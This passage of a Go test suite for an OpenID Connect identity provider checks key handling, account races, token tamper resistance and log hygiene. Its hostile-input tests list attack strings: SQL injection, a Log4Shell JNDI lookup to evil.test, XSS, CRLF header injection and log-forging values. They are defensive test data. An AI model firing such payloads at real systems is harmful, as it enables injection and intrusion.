					issuer: siteURL, idp: idp.Config{Issuer: issuer}, log: slog.New(slog.DiscardHandler), account: account.Config{SessionMax: time.Hour},
				})
				if err != nil {
					failed.Add(1)
					t.Error(err)
				}
				houses[i] = h
			})
			if failed.Load() > 0 {
				return
			}
			var first string
			for i, h := range houses[:6] {
				p := w.browserAt(h, "192.0.2.1").once(http.MethodGet, "/jwks", nil, nil)
				if first == "" {
					first = p.body
				}
				if p.body != first || strings.Count(p.body, `"kid"`) != 3 {
					t.Errorf("replica %d has other keys:\n%s\n%s", i, p.body, first)
				}
			}
		}
	})
}

// ST-08: one address, one account, however it is written and however many try.
func TestST08_OneAccount(t *testing.T) {
	atOnce(t, func(t *testing.T, w *world, pick func(int) *house) {
		for round := range 3 {
			var made, taken atomic.Int64
			release(func(i int) {
				email := []byte(fmt.Sprintf("new%d.person@example.com", round))
				email[i%len("new")] -= 'a' - 'A'
				email[len(email)-1-i%3] -= 'a' - 'A'
				_, err := pick(i).accounts.CreateUser(t.Context(), account.NewUser{Email: " " + string(email), Name: "New"}, supporter)
				switch {
				case err == nil:
					made.Add(1)
				case errors.Is(err, account.ErrEmailTaken):
					taken.Add(1)
				default:
					t.Error(err)
				}
			})
			if made.Load() != 1 || taken.Load() != racers-1 {
				t.Errorf("%d accounts, %d refused", made.Load(), taken.Load())
			}
		}
	})
}

// ST-12: whatever stands in any field or header, both engines answer the same,
// and it is stored literally or not at all.
func TestST12_HostileText(t *testing.T) {
	answers := map[string]map[string]int{}
	onEach(t, func(t *testing.T, w *world) {
		got := map[string]int{}
		answers[w.db.Engine()] = got
		hostile := []string{
			"'; DROP TABLE users; --", "' OR '1'='1", `" OR 1=1 --`, "$1", "?", ":email", "%", "_", "%s%n", "\\", "\\x00", "\x00", "a\x00b", "\xff\xfe", "\r\nSet-Cookie: a=b", "\u2028", "\u202e", "\uffff", "\ufeff",
			strings.Repeat("a", 30000), strings.Repeat("'", 3000), "${jndi:ldap://evil.test/a}", "{{7*7}}", "<script>alert(1)</script>", "NULL", "1e309", "日本語", "👩‍💻",
		}
		for i, s := range hostile {
			note := func(what string, p *page) {
				got[fmt.Sprint(what, " ", i)] = p.status
				if p.status >= 500 || p.status == 200 && what == "sign-in" {
					t.Errorf("%s with %.40q: %d", what, s, p.status)
				}
			}
			w.exec(`DELETE FROM throttles`)
			b := w.newBrowser()
			note("sign-in", b.attempt(s, s))
			note("email", b.attempt(s+"@example.com", adaPassword))
			note("to", b.once(http.MethodPost, "/login", url.Values{"email": {adaEmail}, "password": {"x"}, "to": {s}}, nil))
			for _, name := range []string{"client_id", "redirect_uri", "state", "nonce", "scope", "login_hint", "prompt", "max_age", "code_challenge", "id_token_hint", "unknown", "display", "ui_locales"} {
				f := w.acme.begin(name, s)
				note("authorize "+name, b.once(http.MethodGet, f.url(), nil, nil))
			}
			for _, name := range []string{"id", "to"} {
				note("resume "+name, b.once(http.MethodGet, "/authorize/resume?"+url.Values{name: {s}}.Encode(), nil, nil))
				note("login "+name, b.once(http.MethodGet, "/login?"+url.Values{name: {s}}.Encode(), nil, nil))
			}
			for _, name := range []string{"id_token_hint", "client_id", "post_logout_redirect_uri", "state"} {
				note("end_session "+name, b.once(http.MethodGet, "/end_session?"+url.Values{name: {s}}.Encode(), nil, nil))
				note("logout "+name, b.once(http.MethodPost, "/logout", url.Values{name: {s}}, nil))
			}
			for _, name := range []string{"code", "redirect_uri", "code_verifier", "refresh_token", "scope", "grant_type", "client_id", "client_secret"} {
				form := url.Values{"grant_type": {"authorization_code"}, "client_id": {"globex"}}
				form.Set(name, s)
				note("token "+name, b.once(http.MethodPost, "/oauth/token", form, nil))
			}
			w.exec(`DELETE FROM throttles`)
			header := http.Header{}
			for _, name := range []string{"User-Agent", "Accept-Language", "X-Request-Id", "X-Forwarded-For", "Forwarded", "Referer", "Cookie"} {
				header[name] = []string{s}
			}
			p := w.newBrowser().once(http.MethodPost, "/login", url.Values{"email": {bobEmail}, "password": {bobPassword}}, header)
			if p.status != http.StatusSeeOther {
				t.Errorf("%.40q in the headers keeps people from signing in: %d", s, p.status)
			}
			note("Authorization", w.bearer(http.MethodGet, http.Header{"Authorization": {"Bearer " + s}}, nil))
		}
		if w.count("users") != 2 || w.count("clients") != 3 {
			t.Error("rows are gone")
		}
		for _, agent := range column(t, w, `SELECT user_agent FROM sessions`) {
			if len(agent) > 400 || strings.ContainsFunc(agent, func(r rune) bool { return r < ' ' || r > '~' }) {
				t.Errorf("a session's browser is %.60q", agent)
			}
		}
		// What the operator writes is kept as it is, or refused.
		for _, name := range []string{"'; DROP TABLE users; --", `Robert "Bob" O'Neil \ $1 ?`, "=cmd()|x", "日本語 👩", "<script>alert(1)</script>"} {
			u := must(w.house.accounts.CreateUser(t.Context(), account.NewUser{Email: secret.ID("x") + "@example.com", Name: name}, supporter))(t)
			if u := must(w.house.accounts.FindUser(t.Context(), u.ID))(t); u.Name != name {
				t.Errorf("%q came back as %q", name, u.Name)
			}
		}
		for _, name := range []string{"a\x00b", "\xff", "a\nb", "\u202eevil", "\u2028", strings.Repeat("a", 201), " ", ""} {
			if _, err := w.house.accounts.CreateUser(t.Context(), account.NewUser{Email: secret.ID("x") + "@example.com", Name: name}, supporter); err == nil {
				t.Errorf("name %.40q was taken", name)
			}
		}
	})
	for what, status := range answers["sqlite"] {
		if other := answers["postgres"][what]; other != status {
			t.Errorf("%s: %d on SQLite, %d on PostgreSQL", what, status, other)
		}
	}
}

// CR-01: the JWKS has public halves only, of sizes that count.
func TestCR01_JWKS(t *testing.T) {
	onOne(t, func(t *testing.T, w *world) {
		p := w.newBrowser().get("/jwks")
		var raw struct{ Keys []map[string]any }
		must(1, json.Unmarshal([]byte(p.body), &raw))(t)
		var set jose.JSONWebKeySet
		must(1, json.Unmarshal([]byte(p.body), &set))(t)
		kids := map[string]bool{}
		algs := map[string]bool{}
		for i, k := range set.Keys {
			for _, private := range []string{"d", "p", "q", "dp", "dq", "qi", "k", "oth"} {
				if raw.Keys[i][private] != nil {
					t.Errorf("key %s has %s", k.KeyID, private)
				}
			}
			if !k.IsPublic() || !k.Valid() || k.Use != "sig" || k.KeyID == "" || kids[k.KeyID] {
				t.Errorf("key %v", raw.Keys[i])
			}
			kids[k.KeyID], algs[k.Algorithm] = true, true
			if n, ok := publicSize(k.Key); !ok || k.Algorithm == "RS256" && n < 3072 {
				t.Errorf("%s key with %d bits", k.Algorithm, n)
			}
		}
		if len(algs) != 3 || !algs["ES256"] || !algs["RS256"] || !algs["EdDSA"] {
			t.Errorf("algorithms %v", algs)
		}
	})
}

// CR-03, CR-06: a key that does not open exactly as it was sealed signs nothing:
// flipped bits, and a key in another's place. None is made instead.
func TestCR06_BrokenKeys(t *testing.T) {
	for what, breakIt := range map[string]func(t *testing.T, w *world){
		"a bit flipped": func(t *testing.T, w *world) {
			var sealed []byte
			must(1, w.db.QueryRow(t.Context(), `SELECT private_sealed FROM signing_keys WHERE alg = 'ES256'`).Scan(&sealed))(t)
			sealed[len(sealed)/2] ^= 1
			w.exec(`UPDATE signing_keys SET private_sealed = $1 WHERE alg = 'ES256'`, sealed)
		},
		"another's place": func(t *testing.T, w *world) {
			w.exec(`UPDATE signing_keys SET private_sealed = (SELECT private_sealed FROM signing_keys WHERE alg = 'RS256') WHERE alg = 'ES256'`)
		},
		"another purpose": func(t *testing.T, w *world) {
			id := column(t, w, `SELECT id FROM signing_keys WHERE alg = 'ES256'`)[0]
			w.exec(`UPDATE signing_keys SET private_sealed = $1 WHERE id = $2`, w.ring.Box("access token").Seal([]byte("x"), "signing_keys/"+id), id)
		},
		"other encryption keys": func(t *testing.T, w *world) { // CR-05
			w.ring = must(secret.ParseRing(secret.GenerateKeyFile()))(t)
		},
	} {
		t.Run(strings.ReplaceAll(what, " ", "_"), func(t *testing.T) {
			onEach(t, func(t *testing.T, w *world) {
				before := strings.Join(column(t, w, `SELECT public_jwk FROM signing_keys ORDER BY id`), "\n")
				breakIt(t, w)
				h, err := newHouse(t.Context(), w.db, w.ring, houseConfig{
					issuer: siteURL, idp: idp.Config{Issuer: issuer, AccessTokenTTL: time.Minute}, log: slog.New(slog.NewJSONHandler(w.log, nil)), account: account.Config{SessionMax: time.Hour},
				})
				if err == nil { // it may start, but it must not serve
					b := w.browserAt(h, "192.0.2.9")
					for _, path := range []string{"/jwks", w.acme.begin().url()} {
						if p := b.once(http.MethodGet, path, nil, nil); p.status/100 != 5 || strings.Contains(p.body, "kid") {
							t.Errorf("%s: %d %s", path, p.status, p.body)
						}
					}
					k := w.acme.postAt(h, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {"x"}}, nil)
					if k.status/100 != 5 || k.AccessToken != "" {
						t.Errorf("token endpoint: %s", k.raw)
					}
				} else if !strings.Contains(err.Error(), "signing key") || !strings.Contains(err.Error(), "encryption key file") {
					t.Errorf("it says %v", err)
				}
				if after := strings.Join(column(t, w, `SELECT public_jwk FROM signing_keys ORDER BY id`), "\n"); after != before {
					t.Error("other keys were made")
				}
			})
		})
	}
}

// CR-06: what is sealed and held by a browser or a workspace opens as a whole or
// not at all.
func TestCR06_FlippedTokens(t *testing.T) {
	onOne(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		k := b.connect(w.acme, adaEmail, adaPassword)
		for i := len("hat_"); i < len(k.AccessToken); i++ {
			if w.userinfo(flip(k.AccessToken, i)) != nil {
				t.Errorf("an access token with character %d flipped opens", i)
			}
		}
		// One is not the other, though the same keys seal them.
		known := b.cookie("__Host-harmony-known")
		if w.userinfo("hat_"+known) != nil {
			t.Error("a browser's cookie is an access token")
		}
		if w.userinfo(k.AccessToken) == nil {
			t.Error("the right one does not open")
		}
	})
}

// LG-01: the log of a whole day, at debug level, has no twelve characters of any
// secret (ASVS 16.2.5).
func TestLG01_NoSecretInTheLog(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, engine string) {
		w := wellBehaved(t, engine)
		// What the libraries log goes where the provider's own log does, as serve sets it.
		std := slog.Default()
		slog.SetDefault(slog.New(slog.NewJSONHandler(w.log, &slog.HandlerOptions{Level: slog.LevelDebug})))
		defer slog.SetDefault(std)
		p := w.live()
		// And what goes wrong with a secret at hand.
		b := w.newBrowser()
		for what, s := range p.secrets {
			w.exec(`DELETE FROM throttles`)
			b.attempt(s, s) // LG-04: a password in the field of the address
			b.attempt(s+"@example.com", s)
			b.once(http.MethodGet, "/authorize/resume?"+url.Values{"id": {s}, "code": {s}}.Encode(), nil, nil)
			b.once(http.MethodGet, "/end_session?"+url.Values{"id_token_hint": {s + "x"}, "state": {s}, "post_logout_redirect_uri": {"https://acme.test/?x=" + s}}.Encode(), nil, nil)
			b.once(http.MethodGet, w.acme.begin("state", s, "nonce", s, "login_hint", s, "code_challenge", s, "prompt", "none").url(), nil, nil)
			b.once(http.MethodGet, w.acme.begin("id_token_hint", s+"x").url(), nil, nil)
			b.once(http.MethodPost, "/oauth/token", url.Values{"grant_type": {"authorization_code"}, "code": {s}, "code_verifier": {s}, "client_id": {"globex"}}, nil)
			b.once(http.MethodPost, "/oauth/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {s + "x"}, "client_id": {"acme"}, "client_secret": {s + "x"}}, nil)
			b.once(http.MethodPost, "/oauth/token?"+url.Values{"code": {s}, "client_secret": {s}}.Encode(), url.Values{}, nil)
			b.once(http.MethodGet, "/userinfo?"+url.Values{"access_token": {s}}.Encode(), nil, http.Header{"Authorization": {"Bearer " + s + "x"}})
			if what != "password" { // a person's own password as a path is nobody's mistake
				b.once(http.MethodGet, "/login?"+url.Values{"to": {"/?" + s}, "password": {s}}.Encode(), nil, http.Header{"Referer": {issuer + "/?code=" + s}, "Cookie": {"x=" + s}})
			}
		}
		log := w.log.String()
		for _, what := range []string{`"path":"/authorize/resume"`, `"path":"/end_session"`, `"path":"/oauth/token"`} {
			if !strings.Contains(log, what) {
				t.Fatalf("the log does not have %s", what)
			}
		}
		for what, s := range p.secrets {
			r := random(s)
			for i := 0; i+12 <= len(r); i++ {
				if part := r[i : i+12]; strings.Contains(log, part) && !public(part) {
					at := strings.Index(log, part)
					t.Errorf("the log has %q of the %s: …%s…", part, what, log[max(0, at-200):min(len(log), at+200)])
					break
				}
			}
		}
		for _, name := range []string{"ada@example.com", "id_token_hint\":\"ey"} {
			if strings.Contains(log, name) {
				t.Errorf("the log has %s", name)
			}
		}
	})
}

// public are twelve characters that a secret shares with what is no secret: the
// header and the claims of an ID token begin alike.
func public(part string) bool {
	header := b64(`{"alg":"ES256","kid":"`)
	return strings.Contains(header, part)
}

// LG-02: one line of valid JSON for each event, whatever a stranger sent, and
// never a long one (ASVS 16.4.1).
func TestLG02_OneLineEach(t *testing.T) {
	onOne(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		mark := "\x1b[2J\x1b]0;x\x07\u2028\u2029\u0085\u202e\"'\\`${x}"
		long := strings.Repeat("L", 60<<10)
		before := strings.Count(w.log.String(), "\n")
		requests := 0
		for _, s := range []string{"a\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\r\nb", mark, long, "\xff\xfe", "\x00"} {
			header := http.Header{"User-Agent": {s}, "X-Request-Id": {s}, "Referer": {s}, "Accept-Language": {s}, "Cookie": {s}}
			for _, send := range []func(){
				func() {
					b.once(http.MethodPost, "/login", url.Values{"email": {s}, "password": {"x"}, "to": {s}}, header)
				},
				func() { b.once(http.MethodGet, w.acme.begin("client_id", s).url(), nil, header) },
				func() { b.once(http.MethodGet, w.acme.begin("redirect_uri", s).url(), nil, header) },
				func() { b.once(http.MethodGet, w.acme.begin("state", s, "prompt", "none").url(), nil, header) },
				func() { b.once(http.MethodGet, w.acme.begin("id_token_hint", s).url(), nil, header) },
				func() { b.once(http.MethodGet, "/"+url.PathEscape(s), nil, header) },
				func() {
					b.once(http.MethodGet, "/end_session?"+url.Values{"client_id": {"acme"}, "post_logout_redirect_uri": {s}, "id_token_hint": {s}}.Encode(), nil, header)
				},
				func() {
					b.once(http.MethodPost, "/oauth/token", url.Values{"grant_type": {s}, "client_id": {s}, "code": {s}, "client_secret": {s}}, header)
				},
			} {
				send()
				requests++
			}
		}
		seen := 0
		for line := range strings.Lines(w.log.String()) {
			var entry map[string]any
			if err := json.Unmarshal([]byte(line), &entry); err != nil {
				t.Errorf("%q: %v", line, err)
			}
			if len(line) > 4096 {
				t.Errorf("a line of %d bytes: %.200s", len(line), line)
			}
			if i := strings.IndexFunc(line[:len(line)-1], func(r rune) bool {
				return r < ' ' || r == 0x7f || r == 0x85 || r == 0x2028 || r == 0x2029 || r == 0x202e || r == utf8.RuneError
			}); i >= 0 {
				t.Errorf("a line with %q: %.300q", line[i:min(len(line), i+4)], line)
			}
			if entry["msg"] == "forged" {
				t.Error("a forged line")
			}
			if entry["msg"] == "request" {
				seen++
				if id, _ := entry["request"].(string); !regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{8}$`).MatchString(id) {
					t.Errorf("request id %q", id)
				}
			}
		}
		if seen-before < requests {
			t.Errorf("%d lines for %d requests", seen-before, requests)
		}
	})
}

// LG-06: the access log says where, never with what.
func TestLG06_NoQueryInTheAccessLog(t *testing.T) {
	onOne(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		f := w.acme.begin("login_hint", adaEmail)
		p := b.arrive(f)
		to := b.submit(p, adaEmail, adaPassword)
		k := f.redeem(f.code(b.get(to))).ok()
		b.get("/end_session?" + url.Values{"id_token_hint": {k.IDToken}, "state": {"a state of the farewell"}}.Encode())
		log := w.log.String()
		for what, s := range map[string]string{
			"state": f.query.Get("state"), "nonce": f.query.Get("nonce"), "challenge": f.query.Get("code_challenge"), "redirect URI": url.QueryEscape(callback), "login_hint": adaEmail,
			"request's id": strings.TrimPrefix(to, "/authorize/resume?id="), "hint": k.IDToken, "verifier": f.verifier, "farewell": "a state of",
		} {
			if s == "" || strings.Contains(log, s) || strings.Contains(log, url.QueryEscape(s)) {
				t.Errorf("the log has the %s", what)
			}
		}
		for _, path := range []string{"/authorize", "/authorize/resume", "/end_session", "/login", "/oauth/token"} {
			if !strings.Contains(log, `"path":"`+path+`"`) {
				t.Errorf("no line for %s", path)
			}
		}
	})
}

// publicSize is the size of a public key of one of the kinds that we have.
func publicSize(key any) (bits int, ok bool) {
	switch k := key.(type) {
	case *rsa.PublicKey:
		return k.N.BitLen(), true
	case *ecdsa.PublicKey:
		return k.Params().BitSize, k.Curve == elliptic.P256()
	case ed25519.PublicKey:
		return 8 * len(k), true
	}
	return 0, false
}
